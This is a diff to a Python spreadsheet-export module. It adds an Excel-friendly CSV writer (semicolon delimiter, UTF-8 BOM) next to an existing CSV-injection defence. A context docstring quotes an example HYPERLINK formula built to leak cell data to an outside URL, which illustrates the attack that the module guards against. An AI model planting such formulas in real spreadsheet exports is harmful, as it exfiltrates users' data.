@@ -17,6 +17,7 @@ spreadsheet program never runs it as a formula (``=HYPERLINK("http://…?leak="&
 leading apostrophe (``csv_field``), as OWASP's "CSV injection" advice says.
 """
 
+import csv
 import io
 import zipfile
 
@@ -199,6 +200,15 @@ def csv_field(value):
     """A CSV field that a spreadsheet program opens as text: formula-like text gets a leading
     apostrophe (the program shows the rest; the apostrophe is visible to other readers)."""
     return "'" + value if formula_like(value) else value
+
+
+def excel_csv(rows) -> str:
+    """CSV that Excel opens as it is: ';' between fields (the list separator of an Indonesian
+    Excel, whose decimal comma rules out ','), and a BOM so that it reads UTF-8 instead of the ANSI
+    code page. The fields are written as given: text typed by people goes through csv_field first."""
+    buf = io.StringIO()
+    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(rows)
+    return "\ufeff" + buf.getvalue()
 
 
 def workbook_bytes(workbook) -> bytes:
